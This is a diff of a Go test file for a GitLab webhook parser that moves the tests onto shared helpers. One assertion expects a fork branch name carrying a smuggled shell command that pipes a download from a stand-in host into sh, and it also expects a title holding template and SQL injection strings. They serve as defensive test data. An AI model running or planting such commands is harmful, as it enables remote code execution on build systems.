@@ -3,8 +3,6 @@ package gitlab
 import (
 	"errors"
 	"net/http"
-	"os"
-	"path/filepath"
 	"strings"
 	"testing"
 
@@ -89,14 +87,7 @@ func TestVerify(t *testing.T) {
 }
 
 func TestParseDetails(t *testing.T) {
-	read := func(name string) []byte {
-		b, err := os.ReadFile(filepath.Join(dir, name+".json"))
-		if err != nil {
-			t.Fatal(err)
-		}
-		return b
-	}
-	evs, err := Parse(header("Push Hook", "", "u1"), read("push"))
+	evs, err := Parse(header("Push Hook", "", "u1"), webhooktest.Read(t, dir, "push"))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -116,14 +107,14 @@ func TestParseDetails(t *testing.T) {
 
 	// Without Idempotency-Key or X-Gitlab-Event-UUID the id is a digest of
 	// the body: the same on a redelivery, different for another body.
-	a, _ := Parse(header("Note Hook", "", ""), read("note.merge_request"))
-	b, _ := Parse(header("Note Hook", "", ""), read("note.merge_request"))
-	c, _ := Parse(header("Note Hook", "", ""), read("note.commit"))
+	a, _ := Parse(header("Note Hook", "", ""), webhooktest.Read(t, dir, "note.merge_request"))
+	b, _ := Parse(header("Note Hook", "", ""), webhooktest.Read(t, dir, "note.merge_request"))
+	c, _ := Parse(header("Note Hook", "", ""), webhooktest.Read(t, dir, "note.commit"))
 	if a[0].ID() != b[0].ID() || a[0].ID() == c[0].ID() || !strings.HasPrefix(a[0].ID(), "sha256-") {
 		t.Errorf("ids %q %q %q", a[0].ID(), b[0].ID(), c[0].ID())
 	}
 
-	evs, err = Parse(header("Merge Request Hook", "k", ""), read("merge_request.open-from-fork"))
+	evs, err = Parse(header("Merge Request Hook", "k", ""), webhooktest.Read(t, dir, "merge_request.open-from-fork"))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -132,7 +123,7 @@ func TestParseDetails(t *testing.T) {
 	if !pd.Fork || pd.SourceReference != "refs/heads/feature/$(curl${IFS}evil.example|sh)" || pd.Title != `{{ event.data }} "; DROP TABLE builds; --` {
 		t.Errorf("fork MR data %+v", pd)
 	}
-	evs, err = Parse(header("Merge Request Hook", "k", ""), read("merge_request.open"))
+	evs, err = Parse(header("Merge Request Hook", "k", ""), webhooktest.Read(t, dir, "merge_request.open"))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -143,30 +134,17 @@ func TestParseDetails(t *testing.T) {
 }
 
 func TestParseRefuses(t *testing.T) {
-	tests := []struct {
-		name   string
-		header http.Header
-		body   string
-		want   error
-	}{
-		{"no event header", http.Header{}, `{}`, webhook.ErrMalformed},
-		{"not JSON", header("Push Hook", "k", ""), `[`, webhook.ErrMalformed},
-		{"iid not a number", header("Merge Request Hook", "k", ""), `{"object_attributes":{"iid":"one"}}`, webhook.ErrMalformed},
-		{"push without project", header("Push Hook", "k", ""), `{"ref":"refs/heads/main","before":"a","after":"b"}`, webhook.ErrMalformed},
-		{"MR without last commit", header("Merge Request Hook", "k", ""), `{"project":{"web_url":"http://x/a/b","git_http_url":"http://x/a/b.git","path_with_namespace":"a/b"},"object_attributes":{"iid":1,"action":"open","source_branch":"f","target_branch":"main"}}`, webhook.ErrMalformed},
-		{"individual approval", header("Merge Request Hook", "k", ""), `{"object_attributes":{"action":"approval"}}`, webhook.ErrIgnored},
-		{"note edited", header("Note Hook", "k", ""), `{"object_attributes":{"action":"update","noteable_type":"MergeRequest"}}`, webhook.ErrIgnored},
-		{"system note", header("Note Hook", "k", ""), `{"object_attributes":{"system":true,"noteable_type":"MergeRequest"}}`, webhook.ErrIgnored},
-		{"note on a snippet", header("Note Hook", "k", ""), `{"object_attributes":{"noteable_type":"Snippet"}}`, webhook.ErrIgnored},
-		{"MR note without merge_request", header("Note Hook", "k", ""), `{"object_attributes":{"noteable_type":"MergeRequest"}}`, webhook.ErrMalformed},
-		{"pipeline", header("Pipeline Hook", "k", ""), `{}`, webhook.ErrIgnored},
-	}
-	for _, tt := range tests {
-		t.Run(tt.name, func(t *testing.T) {
-			evs, err := Parse(tt.header, []byte(tt.body))
-			if !errors.Is(err, tt.want) || evs != nil {
-				t.Fatalf("Parse = %d events, %v; want %v", len(evs), err, tt.want)
-			}
-		})
-	}
+	webhooktest.Refuses(t, Parse, []webhooktest.Refusal{
+		{Name: "no event header", Header: http.Header{}, Body: `{}`, Want: webhook.ErrMalformed},
+		{Name: "not JSON", Header: header("Push Hook", "k", ""), Body: `[`, Want: webhook.ErrMalformed},
+		{Name: "iid not a number", Header: header("Merge Request Hook", "k", ""), Body: `{"object_attributes":{"iid":"one"}}`, Want: webhook.ErrMalformed},
+		{Name: "push without project", Header: header("Push Hook", "k", ""), Body: `{"ref":"refs/heads/main","before":"a","after":"b"}`, Want: webhook.ErrMalformed},
+		{Name: "MR without last commit", Header: header("Merge Request Hook", "k", ""), Body: `{"project":{"web_url":"http://x/a/b","git_http_url":"http://x/a/b.git","path_with_namespace":"a/b"},"object_attributes":{"iid":1,"action":"open","source_branch":"f","target_branch":"main"}}`, Want: webhook.ErrMalformed},
+		{Name: "individual approval", Header: header("Merge Request Hook", "k", ""), Body: `{"object_attributes":{"action":"approval"}}`, Want: webhook.ErrIgnored},
+		{Name: "note edited", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"action":"update","noteable_type":"MergeRequest"}}`, Want: webhook.ErrIgnored},
+		{Name: "system note", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"system":true,"noteable_type":"MergeRequest"}}`, Want: webhook.ErrIgnored},
+		{Name: "note on a snippet", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"noteable_type":"Snippet"}}`, Want: webhook.ErrIgnored},
+		{Name: "MR note without merge_request", Header: header("Note Hook", "k", ""), Body: `{"object_attributes":{"noteable_type":"MergeRequest"}}`, Want: webhook.ErrMalformed},
+		{Name: "pipeline", Header: header("Pipeline Hook", "k", ""), Body: `{}`, Want: webhook.ErrIgnored},
+	})
 }
